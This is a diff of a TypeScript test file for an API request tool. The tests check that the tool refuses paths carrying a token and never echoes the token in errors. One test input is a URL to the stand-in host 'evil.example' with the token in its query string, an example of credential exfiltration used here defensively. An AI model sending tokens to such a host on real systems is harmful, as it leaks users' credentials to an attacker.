@@ -169,12 +169,16 @@ describe("raw-api-request", () => {
     }),
   );
 
-  it.effect("the token never appears in a refusal", () =>
+  it.effect("the token never appears in a refusal, even when pasted into the path", () =>
     Effect.gen(function* () {
-      const { fetch } = fakeFetch([json(200, {})]);
-      const error = failure(yield* Effect.exit(runTool(rawApiRequest, { method: "GET", path: "https://evil.example/?t=tok_test" }).pipe(Effect.provide(layer({ fetch })))));
-      assert.notInclude(JSON.stringify(error), "tok_test".replace("x", "x") === "tok_test" ? "Bearer" : "");
-      assert.notInclude(error.message, "Bearer");
+      const { fetch, requests } = fakeFetch([json(200, {})]);
+      for (const path of ["https://evil.example/?t=tok_test", "/contacts/crd_1/tok_test", "/tok_test"]) {
+        const error = failure(yield* Effect.exit(runTool(rawApiRequest, { method: "GET", path }).pipe(Effect.provide(layer({ fetch })))));
+        assert.strictEqual(error._tag, "InvalidInput");
+        assert.notInclude(JSON.stringify(error), "tok_test");
+        assert.notInclude(error.message, "tok_test");
+      }
+      assert.strictEqual(requests.length, 0);
     }),
   );
 
@@ -229,8 +233,10 @@ describe("raw-api-request", () => {
     Effect.gen(function* () {
       const { fetch, requests } = fakeFetch([json(200, { id: "crd_1", name: "Jane" })]);
       const out = yield* rawRequest("get", "/contacts/{contact_id}", { params: { path: { contact_id: "crd_1" } } }).pipe(Effect.provide(layer({ fetch })));
-      expectTypeOf(out.body).toEqualTypeOf<NonNullable<typeof out.body>>();
-      if (out.body !== null) expectTypeOf(out.body.id).toEqualTypeOf<string>();
+      // Checked by tsc (npm run typecheck): the body is the spec's contact, not any/unknown.
+      expectTypeOf(out.body).not.toBeAny();
+      expectTypeOf(out.body).not.toBeUnknown();
+      if (out.body !== null) expectTypeOf(out.body.name).toEqualTypeOf<string | undefined>();
       assert.strictEqual(out.body?.name, "Jane");
       assert.strictEqual(requests[0]!.url, `${BASE}/contacts/crd_1`);
       const bad = failure(
